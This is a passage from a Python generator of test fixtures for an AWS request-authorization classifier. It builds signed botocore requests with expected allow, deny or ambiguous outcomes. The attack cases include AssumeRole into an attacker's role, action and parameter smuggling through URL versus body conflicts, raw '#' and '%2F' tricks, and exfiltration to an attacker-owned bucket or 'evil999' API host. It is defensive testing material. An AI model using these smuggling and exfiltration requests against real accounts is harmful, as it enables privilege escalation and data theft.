         lambda: sdk("lambda", "CreateFunction", dict(cf, Role=ROLE_ADMIN)),
         nmr(("lambda:CreateFunction", new_fn), ("iam:PassRole", ROLE_ADMIN)), cf_unknown)
    case("lambda-create-function-app-role", c, "lambda", "main",
         "Control: CreateFunction of an app- function with an app- role is allowed (two pairs).",
         lambda: sdk("lambda", "CreateFunction", dict(cf, Role=ROLE_OURS)),
         allow(("lambda:CreateFunction", new_fn), ("iam:PassRole", ROLE_OURS)), cf_unknown)
    case("lambda-create-function-with-tags", c, "lambda", "main",
         "Control: CreateFunction with Tags also needs lambda:TagResource on the new function.",
         lambda: sdk("lambda", "CreateFunction", dict(cf, Role=ROLE_OURS, Tags={"team": "payments"})),
         allow(("lambda:CreateFunction", new_fn), ("iam:PassRole", ROLE_OURS), ("lambda:TagResource", new_fn)),
         cf_unknown)
    case("lambda-update-function-configuration-admin-role", c, "lambda", "main",
         "UpdateFunctionConfiguration gives our app- function the admin role; without the body the role is unknown, not absent.",
         lambda: sdk("lambda", "UpdateFunctionConfiguration", {"FunctionName": "app-worker", "Role": ROLE_ADMIN}),
         nmr(("lambda:UpdateFunctionConfiguration", function(PROD, "app-worker")), ("iam:PassRole", ROLE_ADMIN)),
         nmr(("lambda:UpdateFunctionConfiguration", function(PROD, "app-worker")), ("iam:PassRole", None)))
    new_sec = secret(PROD, "app/new")
    sec_unknown = nmr(*CREATE_SECRET_UNKNOWN)
    case("secretsmanager-create-secret-attacker-kms-key", c, "secretsmanager", "main",
         "CreateSecret encrypted under the attacker's KMS key needs kms:GenerateDataKey and kms:Decrypt on it.",
         lambda: sdk("secretsmanager", "CreateSecret", {"Name": "app/new", "SecretString": "s3cr3t", "KmsKeyId": a_k}),
         nmr(("secretsmanager:CreateSecret", new_sec), ("kms:GenerateDataKey", a_k), ("kms:Decrypt", a_k)),
         sec_unknown)
    case("secretsmanager-create-secret-our-key", c, "secretsmanager", "main",
         "Control: CreateSecret under our key (a bare key id) is allowed, three pairs.",
         lambda: sdk("secretsmanager", "CreateSecret", {"Name": "app/new", "SecretString": "s3cr3t",
                                                        "KmsKeyId": KEY_OURS}),
         allow(("secretsmanager:CreateSecret", new_sec), ("kms:GenerateDataKey", kms_key(PROD, KEY_OURS)),
               ("kms:Decrypt", kms_key(PROD, KEY_OURS))), sec_unknown)
    case("secretsmanager-create-secret-alias", c, "secretsmanager", "main",
         "CreateSecret under alias/app-secrets: the key behind the alias is unknown, so the kms pairs are not allowed.",
         lambda: sdk("secretsmanager", "CreateSecret", {"Name": "app/new", "SecretString": "s3cr3t",
                                                        "KmsKeyId": "alias/app-secrets"}),
         nmr(("secretsmanager:CreateSecret", new_sec), ("kms:GenerateDataKey", None), ("kms:Decrypt", None)),
         sec_unknown)
    case("secretsmanager-create-secret-with-tags", c, "secretsmanager", "main",
         "Control: CreateSecret with Tags also needs secretsmanager:TagResource on the new secret.",
         lambda: sdk("secretsmanager", "CreateSecret", {"Name": "app/new", "SecretString": "s3cr3t",
                                                        "Tags": [{"Key": "team", "Value": "payments"}]}),
         allow(("secretsmanager:CreateSecret", new_sec), ("secretsmanager:TagResource", new_sec)), sec_unknown)
    case("secretsmanager-update-secret-attacker-kms-key", c, "secretsmanager", "main",
         "UpdateSecret moves our secret under the attacker's KMS key.",
         lambda: sdk("secretsmanager", "UpdateSecret", {"SecretId": "app/db", "KmsKeyId": a_k}),
         nmr(("secretsmanager:UpdateSecret", secret(PROD, "app/db")), ("kms:GenerateDataKey", a_k),
             ("kms:Decrypt", a_k)),
         nmr(("secretsmanager:UpdateSecret", None), ("kms:GenerateDataKey", None), ("kms:Decrypt", None)))


# --- body-presence -----------------------------------------------------------------------------

STS_HOST = "sts.us-east-1.amazonaws.com"


def body_presence_cases():
    c = "body-presence"
    assume_attacker = form({"Action": "AssumeRole", "Version": "2011-06-15", "RoleArn": ROLE_ATTACKER,
                            "RoleSessionName": "s1"})
    case("sts-post-no-content-length-url-action-decoy", c, "sts", "main",
         "URL says GetCallerIdentity, the body (sent without Content-Length) says AssumeRole into the attacker's role.",
         lambda: hand("POST", STS_HOST, "/?Action=GetCallerIdentity&Version=2011-06-15", [FORM], assume_attacker,
                      service="sts", content_length=False),
         ambiguous(), nmr(UNKNOWN))
    case("sts-post-chunked-url-action-decoy", c, "sts", "main",
         "The same decoy with Transfer-Encoding: chunked instead of Content-Length.",
         lambda: hand("POST", STS_HOST, "/?Action=GetCallerIdentity&Version=2011-06-15",
                      [FORM, ("Transfer-Encoding", "chunked")], assume_attacker, service="sts",
                      content_length=False),
         ambiguous(), nmr(UNKNOWN))
    case("sts-post-no-content-length-assume-attacker", c, "sts", "main",
         "AssumeRole into the attacker's role with the Content-Length header left out: no header never means no body.",
         lambda: sdk("sts", "AssumeRole", {"RoleArn": ROLE_ATTACKER, "RoleSessionName": "s1"},
                     drop_headers=("content-length",)),
         nmr(("sts:AssumeRole", ROLE_ATTACKER)), nmr(UNKNOWN))
    case("sts-get-url-assume-attacker", c, "sts", "main",
         "A GET with ?Action=AssumeRole naming the attacker's role: with the (empty) body seen the URL action counts.",
         lambda: hand("GET", STS_HOST, "/?" + form({"Action": "AssumeRole", "Version": "2011-06-15",
                                                    "RoleArn": ROLE_ATTACKER, "RoleSessionName": "s1"}),
                      service="sts"),
         nmr(("sts:AssumeRole", ROLE_ATTACKER)), nmr(UNKNOWN))
    case("sts-get-url-get-caller-identity", c, "sts", "main",
         "Control: GET ?Action=GetCallerIdentity is allowed once the empty body is seen; unseen, the action is unknown.",
         lambda: hand("GET", STS_HOST, "/?Action=GetCallerIdentity&Version=2011-06-15", service="sts"),
         allow(("sts:GetCallerIdentity", None)), nmr(UNKNOWN))
    case("sts-get-url-assume-own-role", c, "sts", "main",
         "Control: GET ?Action=AssumeRole into our role is allowed with the body seen.",
         lambda: hand("GET", STS_HOST, "/?" + form({"Action": "AssumeRole", "Version": "2011-06-15",
                                                    "RoleArn": ROLE_OURS, "RoleSessionName": "s1"}),
                      service="sts"),
         allow(("sts:AssumeRole", ROLE_OURS)), nmr(UNKNOWN))
    case("sts-post-get-caller-identity", c, "sts", "main",
         "Control: botocore's GetCallerIdentity (a form body) is allowed with the body; unknown without it.",
         lambda: sdk("sts", "GetCallerIdentity", {}), allow(("sts:GetCallerIdentity", None)), nmr(UNKNOWN))
    case("sts-assume-role-ours", c, "sts", "main",
         "Control: AssumeRole into our role is allowed with the body.",
         lambda: sdk("sts", "AssumeRole", {"RoleArn": ROLE_OURS, "RoleSessionName": "job-1"}),
         allow(("sts:AssumeRole", ROLE_OURS)), nmr(UNKNOWN))
    case("sts-assume-role-attacker", c, "sts", "main",
         "AssumeRole into the attacker's role: the signer's account is allowed but the role is not ours.",
         lambda: sdk("sts", "AssumeRole", {"RoleArn": ROLE_ATTACKER, "RoleSessionName": "job-1"}),
         nmr(("sts:AssumeRole", ROLE_ATTACKER)), nmr(UNKNOWN))
    case("sts-post-url-and-body-action-agree", c, "sts", "main",
         "Control: the same Action in the URL and the body agree, so it is trusted once the body is seen.",
         lambda: hand("POST", STS_HOST, "/?Action=AssumeRole", [FORM],
                      form({"Action": "AssumeRole", "Version": "2011-06-15", "RoleArn": ROLE_OURS,
                            "RoleSessionName": "s1"}), service="sts"),
         allow(("sts:AssumeRole", ROLE_OURS)), nmr(UNKNOWN))
    case("sts-post-url-action-body-without-action", c, "sts", "main",
         "Control: the URL names GetCallerIdentity and the seen body has no Action, so nothing disagrees.",
         lambda: hand("POST", STS_HOST, "/?Action=GetCallerIdentity", [FORM], "Version=2011-06-15", service="sts"),
         allow(("sts:GetCallerIdentity", None)), nmr(UNKNOWN))
    case("sqs-query-get-url-action", c, "sqs", "main",
         "Control: an SQS query-protocol GET on our queue path is allowed once the empty body is seen.",
         lambda: hand("GET", "sqs.us-east-1.amazonaws.com",
                      f"/{PROD}/app-jobs?Action=ReceiveMessage&Version=2012-11-05", service="sqs"),
         allow(("sqs:ReceiveMessage", sqs_arn(PROD, "app-jobs"))), nmr(UNKNOWN))
    case("sns-get-url-publish-attacker", c, "sns", "main",
         "An SNS GET with ?Action=Publish to the attacker's topic.",
         lambda: hand("GET", "sns.us-east-1.amazonaws.com",
                      "/?" + form({"Action": "Publish", "Version": "2010-03-31", "TopicArn": TOPIC_ATTACKER,
                                   "Message": "dump"}), service="sns"),
         nmr(("sns:Publish", TOPIC_ATTACKER)), nmr(UNKNOWN))
    case("sts-session-credentials-get-caller-identity", c, "sts", "main",
         "Session credentials (X-Amz-Security-Token) of an account with no allow: denied with or without the body.",
         lambda: sdk("sts", "GetCallerIdentity", {}, creds=K_SESSION),
         nmr(("sts:GetCallerIdentity", None)), nmr(UNKNOWN))


# --- conservative-parsing ----------------------------------------------------------------------

def conservative_parsing_cases():
    c = "conservative-parsing"
    s3_host = "s3.us-east-1.amazonaws.com"
    case("s3-path-style-encoded-slash-in-bucket", c, "s3", "main",
         "A %2F inside the bucket segment of a path-style URL: S3 and the classifier may split it differently.",
         lambda: hand("GET", s3_host, "/app-data%2F..%2Fprod-ledger/2026/q3.csv", service="s3", s3_signer=True),
         ambiguous())
    case("s3-path-style-encoded-slash-lowercase", c, "s3", "main",
         "A lower-case %2f in the bucket segment of a path-style PutObject.",
         lambda: hand("PUT", s3_host, "/app-data%2fx/key.txt", [("Content-Type", "text/plain")], b"hello",
                      service="s3", s3_signer=True, sign_target="/app-data%2Fx/key.txt"),
         ambiguous())
    case("s3-encoded-slash-in-key", c, "s3", "main",
         "Control: %2F in the key (not the bucket) is part of the key.",
         lambda: hand("GET", s3_host, "/app-data/a%2Fb.txt", service="s3", s3_signer=True),
         allow(("s3:GetObject", s3("app-data", "a/b.txt"))))
    case("s3-raw-hash-in-target", c, "s3", "main",
         "A raw # in the request target: a client treats the rest as a fragment, a server may not.",
         lambda: hand("GET", s3_host, "/app-data/report.csv#/../prod-ledger/2026/q3.csv", service="s3",
                      s3_signer=True),
         ambiguous())
    case("sts-raw-hash-in-query", c, "sts", "main",
         "A raw # in the query hides a second Action from a parser that stops at the fragment.",
         lambda: hand("GET", STS_HOST, "/?Action=GetCallerIdentity&Version=2011-06-15#&Action=AssumeRole&RoleArn="
                      + quote(ROLE_ATTACKER, safe="") + "&RoleSessionName=s1", service="sts"),
         ambiguous())
    case("sts-operation-beside-action-in-body", c, "sts", "main",
         "The body carries Action=GetCallerIdentity and Operation=AssumeRole into the attacker's role.",
         lambda: hand("POST", STS_HOST, "/", [FORM],
                      form({"Action": "GetCallerIdentity", "Version": "2011-06-15", "Operation": "AssumeRole",
                            "RoleArn": ROLE_ATTACKER, "RoleSessionName": "s1"}), service="sts"),
         ambiguous(), nmr(UNKNOWN))
    case("sts-operation-in-url", c, "sts", "main",
         "Operation=AssumeRole in the URL beside Action=GetCallerIdentity in the body; the URL alone is enough to refuse.",
         lambda: hand("POST", STS_HOST, "/?" + form({"Operation": "AssumeRole", "RoleArn": ROLE_ATTACKER,
                                                     "RoleSessionName": "s1"}), [FORM],
                      form({"Action": "GetCallerIdentity", "Version": "2011-06-15"}), service="sts"),
         ambiguous())
    case("sts-operation-instead-of-action", c, "sts", "main",
         "Operation=AssumeRole with no Action at all.",
         lambda: hand("POST", STS_HOST, "/", [FORM],
                      form({"Operation": "AssumeRole", "Version": "2011-06-15", "RoleArn": ROLE_ATTACKER,
                            "RoleSessionName": "s1"}), service="sts"),
         ambiguous(), nmr(UNKNOWN))
    case("sts-duplicate-action-in-body", c, "sts", "main",
         "Two Action parameters in one form body, GetCallerIdentity then AssumeRole; which one STS runs is not ours to guess.",
         lambda: hand("POST", STS_HOST, "/", [FORM],
                      "Action=GetCallerIdentity&Version=2011-06-15&Action=AssumeRole&RoleArn="
                      + quote(ROLE_ATTACKER, safe="") + "&RoleSessionName=s1", service="sts"),
         ambiguous(), nmr(UNKNOWN))
    case("sqs-x-amz-target-with-form-content-type", c, "sqs", "main",
         "X-Amz-Target (JSON protocol) with a form body (query protocol) naming the attacker's queue.",
         lambda: hand("POST", "sqs.us-east-1.amazonaws.com", "/",
                      [("X-Amz-Target", "AmazonSQS.SendMessage"), FORM],
                      form({"Action": "SendMessage", "Version": "2012-11-05", "QueueUrl": Q_ATTACKER,
                            "MessageBody": "dump"}), service="sqs"),
         ambiguous())
    case("dynamodb-x-amz-target-with-form-content-type", c, "dynamodb", "main",
         "A DynamoDB X-Amz-Target with a form content type.",
         lambda: sdk("dynamodb", "PutItem", {"TableName": "app-orders", "Item": {"pk": {"S": "1"}}},
                     mutate=set_header("Content-Type", "application/x-www-form-urlencoded")),
         ambiguous())
    case("sqs-query-path-vs-body-queueurl", c, "sqs", "main",
         "The query protocol posted to our queue's path with the attacker's QueueUrl in the body.",
         lambda: hand("POST", "sqs.us-east-1.amazonaws.com", f"/{PROD}/app-jobs", [FORM],
                      form({"Action": "SendMessage", "Version": "2012-11-05", "QueueUrl": Q_ATTACKER,
                            "MessageBody": "dump"}), service="sqs"),
         ambiguous(), nmr(UNKNOWN))
    case("sqs-query-url-vs-body-queueurl", c, "sqs", "main",
         "The query protocol with our QueueUrl in the URL query and the attacker's in the form body.",
         lambda: hand("POST", "sqs.us-east-1.amazonaws.com", "/?" + form({"QueueUrl": Q_OURS}), [FORM],
                      form({"Action": "SendMessage", "Version": "2012-11-05", "QueueUrl": Q_ATTACKER,
                            "MessageBody": "dump"}), service="sqs"),
         ambiguous(), nmr(UNKNOWN))
    case("sqs-query-url-and-body-queueurl-agree", c, "sqs", "main",
         "Control: the same QueueUrl in the URL and the body is not a conflict.",
         lambda: hand("POST", "sqs.us-east-1.amazonaws.com", "/?" + form({"QueueUrl": Q_OURS}), [FORM],
                      form({"Action": "SendMessage", "Version": "2012-11-05", "QueueUrl": Q_OURS,
                            "MessageBody": "job"}), service="sqs"),
         allow(("sqs:SendMessage", sqs_arn(PROD, "app-jobs"))), nmr(UNKNOWN))
    case("sqs-query-duplicate-queueurl-in-body", c, "sqs", "main",
         "Two QueueUrl parameters in one form body, ours then the attacker's.",
         lambda: hand("POST", "sqs.us-east-1.amazonaws.com", "/", [FORM],
                      form([("Action", "SendMessage"), ("Version", "2012-11-05"), ("QueueUrl", Q_OURS),
                            ("MessageBody", "dump"), ("QueueUrl", Q_ATTACKER)]), service="sqs"),
         ambiguous(), nmr(UNKNOWN))
    case("sqs-json-queue-path-vs-body-queueurl", c, "sqs", "main",
         "A JSON-protocol SendMessage posted to our queue's path with the attacker's QueueUrl in the body.",
         lambda: sdk("sqs", "SendMessage", {"QueueUrl": Q_ATTACKER, "MessageBody": "dump"},
                     mutate=set_path(f"/{PROD}/app-jobs")),
         ambiguous(), nmr(("sqs:SendMessage", None)))
    case("sns-query-url-vs-body-topicarn", c, "sns", "main",
         "Our TopicArn in the URL query and the attacker's in the form body.",
         lambda: hand("POST", "sns.us-east-1.amazonaws.com", "/?" + form({"TopicArn": TOPIC_OURS}), [FORM],
                      form({"Action": "Publish", "Version": "2010-03-31", "TopicArn": TOPIC_ATTACKER,
                            "Message": "dump"}), service="sns"),
         ambiguous(), nmr(UNKNOWN))
    case("sts-url-vs-body-rolearn", c, "sts", "main",
         "Our role in ?RoleArn= and the attacker's role in the form body.",
         lambda: hand("POST", STS_HOST, "/?" + form({"RoleArn": ROLE_OURS}), [FORM],
                      form({"Action": "AssumeRole", "Version": "2011-06-15", "RoleArn": ROLE_ATTACKER,
                            "RoleSessionName": "s1"}), service="sts"),
         ambiguous(), nmr(UNKNOWN))


# --- destination-owner -------------------------------------------------------------------------

def destination_owner_cases():
    c = "destination-owner"
    case("execute-api-allowed-host", c, "execute-api", "main",
         "Control: our API (abc123, named by the hosts: condition) invoked with a prod key; the ARN has no account.",
         lambda: hand("GET", API_HOST, "/prod/orders/42", [("Accept", "application/json")], service="execute-api"),
         allow(("execute-api:Invoke", "arn:aws:execute-api:us-east-1::abc123/prod/GET/orders/42")))
    case("execute-api-other-api-prod-key", c, "execute-api", "main",
         "The attacker's API (which need not check signatures) called with a key id that derives to prod.",
         lambda: hand("POST", "evil999.execute-api.us-east-1.amazonaws.com", "/prod/collect",
                      [("Content-Type", "application/json")], b'{"dump": "..."}', service="execute-api"),
         nmr(("execute-api:Invoke", "arn:aws:execute-api:us-east-1::evil999/prod/POST/collect")))
    case("execute-api-allowed-host-attacker-key", c, "execute-api", "main",
         "Our API host with the attacker's key: the allow statement is for prod's keys only.",
         lambda: hand("GET", API_HOST, "/prod/orders/42", service="execute-api", creds=K_ATTACKER),
         nmr(("execute-api:Invoke", "arn:aws:execute-api:us-east-1::abc123/prod/GET/orders/42")))
    case("execute-api-allowlist-prod-key", c, "execute-api", "allowlist",
         "Under an accounts: allowlist with every service, an API Gateway call is still never allowed by the signer's account alone.",
         lambda: hand("GET", API_HOST, "/prod/orders/42", service="execute-api"),
         nmr(("execute-api:Invoke", "arn:aws:execute-api:us-east-1::abc123/prod/GET/orders/42")))
    case("lambda-function-url-prod-key", c, "lambda", "main",
         "A Lambda function URL names no owner; a prod key does not make it ours.",
         lambda: hand("POST", FUNCTION_URL_HOST, "/", [("Content-Type", "application/json")], b'{"dump": 1}',
                      service="lambda"),
         nmr(("lambda:InvokeFunctionUrl", None)))
    case("lambda-function-url-allowlist", c, "lambda", "allowlist",
         "Under the accounts: allowlist a function URL call is not allowed by the signer's account.",
         lambda: hand("POST", FUNCTION_URL_HOST, "/", [("Content-Type", "application/json")], b'{"dump": 1}',
                      service="lambda"),
         nmr(("lambda:InvokeFunctionUrl", None)))
    exfil = s3("app-exfil", "dump.tar")
    body = b"stolen-data\n"
    case("s3-attacker-owned-app-bucket-main", c, "s3", "main",
         "Without bucket-owner checks, a bucket the attacker named app-exfil in their account matches app-*: main cannot tell.",
         lambda: sdk("s3", "PutObject", {"Bucket": "app-exfil", "Key": "dump.tar", "Body": body}),
         allow(("s3:PutObject", exfil)))
    case("s3-bucket-owner-missing", c, "s3", "bucket-owner",
         "PutObject to app-exfil without x-amz-expected-bucket-owner when the policy requires it.",
         lambda: sdk("s3", "PutObject", {"Bucket": "app-exfil", "Key": "dump.tar", "Body": body}),
         deny("resource_owner_not_allowed", ("s3:PutObject", exfil)))
    case("s3-bucket-owner-attacker", c, "s3", "bucket-owner",
         "x-amz-expected-bucket-owner names the attacker's account, where app-exfil really is.",
         lambda: sdk("s3", "PutObject", {"Bucket": "app-exfil", "Key": "dump.tar", "Body": body,
                                         "ExpectedBucketOwner": ATTACKER}),
         deny("resource_owner_not_allowed", ("s3:PutObject", exfil)))
    case("s3-bucket-owner-ours", c, "s3", "bucket-owner",
         "Control: x-amz-expected-bucket-owner names prod, so S3 itself refuses if the bucket is anyone else's.",
         lambda: sdk("s3", "PutObject", {"Bucket": "app-data", "Key": "reports/q3.csv", "Body": b"1,2\n",
                                         "ExpectedBucketOwner": PROD}),
         allow(("s3:PutObject", s3("app-data", "reports/q3.csv"))))
    case("s3-bucket-owner-access-point-ours", c, "s3", "bucket-owner",
         "Control: an access point host carries its account (prod), which counts as the owner.",
         lambda: sdk("s3", "GetObject", {"Bucket": f"arn:aws:s3:us-east-1:{PROD}:accesspoint/ap", "Key": "k.txt"}),
         allow(("s3:GetObject", f"arn:aws:s3:us-east-1:{PROD}:accesspoint/ap/object/k.txt")))
    case("s3-bucket-owner-access-point-attacker", c, "s3", "bucket-owner",
         "An access point in the attacker's account: its host names the owner, which is not allowed.",
         lambda: sdk("s3", "PutObject", {"Bucket": f"arn:aws:s3:us-east-1:{ATTACKER}:accesspoint/ap",
                                         "Key": "dump.tar", "Body": body}),
         deny("resource_owner_not_allowed",
              ("s3:PutObject", f"arn:aws:s3:us-east-1:{ATTACKER}:accesspoint/ap/object/dump.tar")))
    case("s3-bucket-owner-create-bucket-exempt", c, "s3", "bucket-owner",
         "Control: CreateBucket addresses no existing bucket and needs no owner header.",
         lambda: sdk("s3", "CreateBucket", {"Bucket": "app-new"}), allow(("s3:CreateBucket", s3("app-new"))))
    case("s3-bucket-owner-list-buckets-exempt", c, "s3", "bucket-owner",
         "ListBuckets needs no owner header; it is denied only because no rule allows a null resource.",
         lambda: sdk("s3", "ListBuckets", {}), nmr(("s3:ListAllMyBuckets", None)))
    case("s3-bucket-owner-delete-objects-ours", c, "s3", "bucket-owner",
         "Control: DeleteObjects with the owner header naming prod; without the body the protected-deletes deny matches.",
         lambda: sdk("s3", "DeleteObjects", {"Bucket": "app-data", "ExpectedBucketOwner": PROD,
                                             "Delete": {"Objects": [{"Key": "tmp/a.txt"}]}}),
         allow(("s3:DeleteObject", s3("app-data", "tmp/a.txt"))), by_rule(("s3:DeleteObject", None)))


# --- unknown-account ---------------------------------------------------------------------------

def unknown_account_cases():
    c = "unknown-account"
    case("unknown-account-list-secrets", c, "secretsmanager", "allowlist",
         "A legacy key (account unknown) lists secrets: the prod-scoped deny must still match.",
         lambda: sdk("secretsmanager", "ListSecrets", {}, creds=K_LEGACY),
         by_rule(("secretsmanager:ListSecrets", None)))
    case("unknown-account-get-secret-by-arn", c, "secretsmanager", "allowlist",
         "A legacy key reads prod's app/db by ARN; only the account-scoped deny-prod-secrets can match.",
         lambda: sdk("secretsmanager", "GetSecretValue", {"SecretId": secret(PROD, "app/db-AbCdEf")}, creds=K_LEGACY),
         by_rule(("secretsmanager:GetSecretValue", secret(PROD, "app/db-AbCdEf"))),
         by_rule(("secretsmanager:GetSecretValue", None)))
    case("unknown-account-put-secret-by-name", c, "secretsmanager", "allowlist",
         "A legacy key writes a secret by name: the secret's account is unknown, and the prod-scoped deny matches.",
         lambda: sdk("secretsmanager", "PutSecretValue", {"SecretId": "app/db", "SecretString": "x"}, creds=K_LEGACY),
         by_rule(("secretsmanager:PutSecretValue", None)))
    case("unknown-account-legacy-session-key-create-secret", c, "secretsmanager", "allowlist",
         "A legacy session key (ASIA…, with a token) creates a secret: denied by the prod-scoped deny.",
         lambda: sdk("secretsmanager", "CreateSecret", {"Name": "app/new", "SecretString": "x"},
                     creds=K_LEGACY_SESSION),
         by_rule(("secretsmanager:CreateSecret", None)), by_rule(*CREATE_SECRET_UNKNOWN))
    case("prod-key-secrets-allowlist", c, "secretsmanager", "allowlist",
         "Control for the deny: prod's own key reading app/db is denied by deny-prod-secrets.",
         lambda: sdk("secretsmanager", "GetSecretValue", {"SecretId": "app/db"}),
         by_rule(("secretsmanager:GetSecretValue", secret(PROD, "app/db"))),
         by_rule(("secretsmanager:GetSecretValue", None)))
    case("unknown-account-s3-get-object", c, "s3", "allowlist",
         "A legacy key reading an object: account-scoped allows (the allowlist) never match an unknown account.",
         lambda: sdk("s3", "GetObject", {"Bucket": "app-data", "Key": "k.txt"}, creds=K_LEGACY),
         deny("account_not_allowed", ("s3:GetObject", s3("app-data", "k.txt"))))
    case("unknown-account-s3-delete-protected", c, "s3", "allowlist",
         "A legacy key deleting a protected object is denied by the unscoped deny.",
         lambda: sdk("s3", "DeleteObject", {"Bucket": "app-protected", "Key": "ledger/2026.csv"}, creds=K_LEGACY),
         by_rule(("s3:DeleteObject", s3("app-protected", "ledger/2026.csv"))))
    case("unknown-account-dynamodb-table-name", c, "dynamodb", "allowlist",
         "A legacy key names a table without an ARN: the table's account is unknown, so is the resource.",
         lambda: sdk("dynamodb", "PutItem", {"TableName": "app-orders", "Item": {"pk": {"S": "1"}}}, creds=K_LEGACY),
         deny("account_not_allowed", ("dynamodb:PutItem", None)))
    case("unknown-account-lambda-invoke-name", c, "lambda", "allowlist",
         "A legacy key invokes a function by name: the function ARN needs the unknown account.",
         lambda: sdk("lambda", "Invoke", {"FunctionName": "app-worker", "Payload": b"{}"}, creds=K_LEGACY),
         deny("account_not_allowed", ("lambda:InvokeFunction", None)))
    case("unknown-account-kms-decrypt-arn", c, "kms", "allowlist",
         "A legacy key decrypting with prod's key ARN is not allowed by prod's allowlist entry.",
         lambda: sdk("kms", "Decrypt", {"CiphertextBlob": b"blob", "KeyId": kms_key(PROD, KEY_OURS)}, creds=K_LEGACY),
         deny("account_not_allowed", ("kms:Decrypt", kms_key(PROD, KEY_OURS))),
         deny("account_not_allowed", ("kms:Decrypt", None)))
    case("unknown-account-get-caller-identity", c, "sts", "allowlist",
         "A legacy key asking STS who it is: no account, so the allowlist does not allow it.",
         lambda: sdk("sts", "GetCallerIdentity", {}, creds=K_LEGACY),
         deny("account_not_allowed", ("sts:GetCallerIdentity", None)), deny("account_not_allowed", UNKNOWN))
    case("prod-key-s3-allowlist", c, "s3", "allowlist",
         "Control: prod's key is allowed by the allowlist (every region and service).",
         lambda: sdk("s3", "GetObject", {"Bucket": "app-data", "Key": "k.txt"}),
         allow(("s3:GetObject", s3("app-data", "k.txt"))))
    case("attacker-key-allowlist", c, "s3", "allowlist",
         "The attacker's own key is not in the allowlist.",
         lambda: sdk("s3", "GetObject", {"Bucket": "app-data", "Key": "k.txt"}, creds=K_ATTACKER),
         deny("account_not_allowed", ("s3:GetObject", s3("app-data", "k.txt"))))
    case("session-key-allowlist", c, "sqs", "allowlist",
         "Session credentials of an account not in the allowlist.",
         lambda: sdk("sqs", "SendMessage", {"QueueUrl": Q_OURS, "MessageBody": "x"}, creds=K_SESSION),
         deny("account_not_allowed", ("sqs:SendMessage", sqs_arn(PROD, "app-jobs"))),
         deny("account_not_allowed", ("sqs:SendMessage", None)))
    case("legacy-key-main", c, "s3", "main",
         "Under main (legacy_access_keys: deny) an old-generation key is refused before anything is classified.",
         lambda: sdk("s3", "GetObject", {"Bucket": "app-data", "Key": "k.txt"}, creds=K_LEGACY),
         deny("legacy_access_key", UNKNOWN))


# ---------------------------------------------------------------------------


def main():
    patches = [
        mock.patch.object(botocore.auth, "get_current_datetime", _frozen_get_current_datetime),
        mock.patch.object(botocore.compat, "get_current_datetime", _frozen_get_current_datetime),
        mock.patch.object(botocore.signers, "get_current_datetime", _frozen_get_current_datetime),
        mock.patch("uuid.uuid4", _uuid4),
    ]
    for p in patches:
        p.start()
    try:
        resource_from_body_cases()
        unreadable_body_cases()
        every_resource_cases()
        dependent_action_cases()
        body_presence_cases()
        conservative_parsing_cases()
        destination_owner_cases()
        unknown_account_cases()
    finally:
        for p in reversed(patches):
            p.stop()

    stamp = NOW.strftime("%Y%m%dT%H%M%SZ")
    for entry in CASES:
        auth = [v for k, v in entry["request"]["headers"] if k.lower() == "authorization"]
        assert len(auth) == 1 and f"/{stamp[:8]}/" in auth[0], entry["name"]
        assert [v for k, v in entry["request"]["headers"] if k.lower() == "x-amz-date"] == [stamp], entry["name"]
        for key in ("expect", "expect_without_body"):
            if key in entry:
                e = entry[key]
                assert e["authorizations"], entry["name"]
                assert (e["decision"] == "allow") == (e["reason"] == "allowed"), entry["name"]

    classes = Counter(e["class"] for e in CASES)
    services = Counter(e["service"] for e in CASES)
    assert len(CASES) >= 90, len(CASES)
    assert set(classes) == set(CLASSES), classes
    assert len(services) >= 8, services
    assert sum(1 for e in CASES if e["expect"]["decision"] == "allow") >= 10

    doc = {
        "generator": GENERATOR,
        "botocore": BOTOCORE_VERSION,
        "now": NOW.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "policies": POLICIES,
        "cases": CASES,
    }
    os.makedirs(os.path.dirname(OUTPUT), exist_ok=True)
    with open(OUTPUT, "w", encoding="utf-8") as f:
        json.dump(doc, f, indent=2, sort_keys=True, ensure_ascii=False)
        f.write("\n")
    print(f"wrote {len(CASES)} cases -> {os.path.relpath(OUTPUT, REPO_ROOT)}")
    print("classes:", dict(sorted(classes.items())))
    print("services:", dict(sorted(services.items())))
    print("built_by:", dict(sorted(Counter(e["built_by"] for e in CASES).items())))


if __name__ == "__main__":
    main()
